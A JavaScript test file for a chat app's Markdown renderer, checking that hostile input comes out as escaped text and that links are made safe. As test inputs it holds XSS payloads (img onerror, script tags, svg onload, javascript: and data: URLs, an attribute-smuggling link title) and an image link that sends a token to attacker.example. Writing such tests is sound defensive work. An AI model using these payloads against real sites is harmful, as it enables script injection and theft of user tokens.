// Message text → HTML (frontend/app/markdown.js, markdown-it with raw HTML off): Markdown is
// rendered, hostile markup comes out as text (run by test_frontend_modules.py).
import { register } from "node:module";
import { test } from "node:test";
import assert from "node:assert/strict";

register(new URL("./import-map-hooks.mjs", import.meta.url));
const { renderMarkdown } = await import("parley/markdown.js");

// Every tag name the output opens: what a browser would turn into elements.
const tags = (html) => [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1].toLowerCase());

test("Markdown becomes HTML: emphasis, code, lists, fenced code", () => {
  const html = renderMarkdown("**bold** and _it_ and `x < y`\n\n- one\n- two\n\n```\nif (a < b) {}\n```");
  assert.match(html, /<strong>bold<\/strong>/);
  assert.match(html, /<em>it<\/em>/);
  assert.match(html, /<code>x &lt; y<\/code>/);
  assert.match(html, /<ul>\n<li>one<\/li>\n<li>two<\/li>\n<\/ul>/);
  assert.match(html, /<pre><code>if \(a &lt; b\) \{\}\n<\/code><\/pre>/);
});

test("<img onerror> and <script> in a message are text, not elements", () => {
  const hostile = '<img src=x onerror="alert(1)"> <script>alert(2)</script> <iframe src="https://e.example"></iframe>';
  const html = renderMarkdown(hostile);
  // The iframe's URL is linkified (a plain link to it): text, not a frame.
  assert.deepEqual(tags(html), ["p", "a"]);
  assert.ok(html.includes("&lt;iframe src=&quot;"), html);
  assert.ok(html.includes("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"), html);
  assert.ok(html.includes("&lt;script&gt;alert(2)&lt;/script&gt;"), html);
});

test("raw HTML blocks are escaped too, whole lines of them", () => {
  const html = renderMarkdown('<div onmouseover="steal()">\n<svg onload="x()"></svg>\n</div>');
  assert.deepEqual(tags(html), ["p", "br", "br"]);
  assert.ok(!/<(div|svg)/i.test(html), html);
});

test("a quote in a link title cannot open a new attribute", () => {
  const html = renderMarkdown('[a](https://ok.example "t\\" onclick=\\"x()")');
  const a = html.match(/<a [^>]*>/)[0];
  const names = [...a.matchAll(/\s([a-z-]+)="[^"]*"/g)].map((m) => m[1]);
  assert.deepEqual(names, ["href", "title", "target", "rel"], a);
  assert.match(a, /title="t&quot; onclick=&quot;x\(\)"/);
});

test("javascript:, vbscript: and data: links are not links", () => {
  for (const url of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4="]) {
    const html = renderMarkdown(`[click](${url})`);
    assert.ok(!html.includes("<a"), `${url} → ${html}`);
  }
});

test("links open in a new tab without opener or referrer", () => {
  const html = renderMarkdown("see [docs](https://docs.example/x) or https://bare.example/y");
  assert.match(html, /<a href="https:\/\/docs\.example\/x" target="_blank" rel="noopener noreferrer nofollow">docs<\/a>/);
  assert.match(html, /<a href="https:\/\/bare\.example\/y" target="_blank" rel="noopener noreferrer nofollow">/);
});

test("images are not embedded: an exfiltration URL is never fetched by readers", () => {
  const html = renderMarkdown("![secret](https://attacker.example/p.png?q=token)");
  assert.ok(!tags(html).includes("img"), html);
  assert.match(html, /<a href="https:\/\/attacker\.example\/p\.png\?q=token"/);
});

test("single newlines are line breaks, as people type them", () => {
  assert.equal(renderMarkdown("one\ntwo"), "<p>one<br>\ntwo</p>\n");
});

test("a half-streamed reply renders as far as it goes, the same text finished renders fully", () => {
  assert.equal(renderMarkdown("**bol"), "<p>**bol</p>\n");
  assert.equal(renderMarkdown("**bold**"), "<p><strong>bold</strong></p>\n");
});

test("empty and non-string input render nothing", () => {
  assert.equal(renderMarkdown(""), "");
  assert.equal(renderMarkdown(undefined), "");
});
